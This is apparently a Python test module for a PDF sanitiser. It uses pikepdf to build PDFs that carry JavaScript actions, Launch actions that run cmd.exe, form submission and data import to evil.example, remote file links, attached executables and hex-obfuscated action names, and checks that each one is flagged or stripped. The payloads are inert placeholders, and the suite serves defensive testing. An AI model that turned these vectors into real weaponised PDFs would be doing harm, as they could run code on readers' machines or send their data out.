"""PDFs that would run, start, send or hide something where they are opened."""

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile import raw
from tests.hostile.cases import FLAGGED, LOCKED, TAKEN, Case
from tests.papers import changed, locked, pdf

SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert('hostile')")
_ACTS = (b"hostile", b"JavaScript", b"cmd.exe", b"MZ\x90", b"evil.example")


def _link(one, action):
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    one.pages[0].obj.Annots = Array([link])


def _note(one, subtype, **more):
    box = Array([0, 0, 99, 99])
    note = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=box, **more)
    one.pages[0].obj.Annots = Array([note])


def _action(kind, **more):
    return lambda one: _link(one, Dictionary(S=Name(kind), **more))


def _opening(action):
    return lambda one: one.Root.update({"/OpenAction": action})


def _form(one, **field):
    found = one.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T="name",
            Rect=Array([0, 0, 99, 20]),
            **field,
        )
    )
    one.pages[0].obj.Annots = Array([found])
    one.Root.AcroForm = Dictionary(Fields=Array([found]))


def _portfolio(one):
    one.attachments["evil.exe"] = b"MZ\x90 hostile"
    one.Root.Collection = Dictionary(View=Name.D)


def _later(one):
    first = Dictionary(S=Name.GoTo, D=Array([one.pages[0].obj, Name.Fit]))
    first.Next = Array([SCRIPT])
    one.Root.OpenAction = first


_CHANGES = {
    "script when it is opened": _opening(SCRIPT),
    "script in a stream": lambda one: _opening(
        Dictionary(S=Name.JavaScript, JS=one.make_stream(b"app.alert('hostile')"))
    )(one),
    "script after another action": _later,
    "script when it is closed": lambda one: one.Root.update({"/AA": Dictionary(WC=SCRIPT)}),
    "script of a page": lambda one: one.pages[0].obj.update({"/AA": Dictionary(O=SCRIPT)}),
    "script of a field": lambda one: _form(one, AA=Dictionary(K=SCRIPT)),
    "script of a button": lambda one: _form(one, A=SCRIPT),
    "script with a name": lambda one: one.Root.update(
        {"/Names": Dictionary(JavaScript=Dictionary(Names=Array(["run", SCRIPT])))}
    ),
    "script behind an outline": lambda one: one.Root.update(
        {"/Outlines": Dictionary(First=Dictionary(Title="Go", A=SCRIPT))}
    ),
    "script behind a link": lambda one: _link(one, SCRIPT),
    "program behind a link": _action("/Launch", F="cmd.exe"),
    "program when it is opened": _opening(
        Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c hostile"))
    ),
    "form that sends itself": _action("/SubmitForm", F="https://evil.example/"),
    "form that fetches": _action("/ImportData", F="evil.example"),
    "jump into an attached file": _action("/GoToE", T=Dictionary(R=Name.C, N="hostile")),
    "jump to another file": _action("/GoToR", F="//evil.example/share", D=Array([0, Name.Fit])),
    "order to a film": _action("/RichMediaExecute"),
    "address that is a script": _action("/URI", URI="javascript:alert('hostile')"),
    "address of this machine": _action("/URI", URI="file:///c:/hostile"),
    "film": lambda one: _note(one, "/Movie", Movie=Dictionary(F="//evil.example/a.avi")),
    "sound": lambda one: _note(one, "/Sound", Sound=one.make_stream(b"hostile")),
    "screen": lambda one: _note(one, "/Screen", A=Dictionary(S=Name.Rendition, JS="hostile")),
    "rich media": lambda one: _note(one, "/RichMedia", RichMediaContent=Dictionary()),
    "scene in three dimensions": lambda one: _note(one, "/3D"),
    "file behind a pin": lambda one: _note(one, "/FileAttachment", FS=Dictionary(F="cmd.exe")),
    "attached program": lambda one: one.attachments.update({"evil.exe": b"MZ\x90 hostile"}),
    "attached PDF": lambda one: one.attachments.update({"in.pdf": changed(_opening(SCRIPT))}),
    "portfolio": _portfolio,
    "dynamic form": lambda one: one.Root.update(
        {"/AcroForm": Dictionary(Fields=Array(), XFA=one.make_stream(b"<xdp>hostile</xdp>"))}
    ),
    "dynamic form in parts": lambda one: one.Root.update(
        {"/AcroForm": Dictionary(XFA=Array(["form", one.make_stream(b"<script>hostile")]))}
    ),
}
_SPELT = raw.pdf(
    [
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /J#53 (hostile) >> >>",
        raw.ONE_PAGE,
        raw.PAGE % b"",
        raw.stream(b""),
    ]
)


def _packed() -> bytes:
    mode = pikepdf.ObjectStreamMode.generate
    return changed(_opening(SCRIPT), object_stream_mode=mode)


CASES = [
    *[
        Case(f"PDF: {name}", lambda change=change: changed(change), FLAGGED, lacks=_ACTS)
        for name, change in _CHANGES.items()
    ],
    Case("PDF: script whose name is spelt in digits", _SPELT, FLAGGED, lacks=_ACTS),
    Case("PDF: script in packed objects", _packed, FLAGGED, lacks=_ACTS),
    Case(
        "PDF: link to a page on the web", lambda: changed(_action("/URI", URI="https://a.b")), TAKEN
    ),
    Case("PDF: opens with a password", lambda: locked(user="secret"), LOCKED),
    Case("PDF: only printing has a password", lambda: locked(user=""), TAKEN),
    Case(
        "PDF: old encryption with a password",
        lambda: changed(
            lambda _one: None,
            encryption=pikepdf.Encryption(user="a", owner="b", R=3, aes=False, metadata=False),
        ),
        LOCKED,
    ),
    Case(
        "PDF: script under a password for printing",
        lambda: changed(_opening(SCRIPT), encryption=pikepdf.Encryption(user="", owner="b")),
        FLAGGED,
        lacks=_ACTS,
    ),
    Case("PDF: in capital letters", lambda: pdf(), TAKEN, called="PASS.PDF"),
]
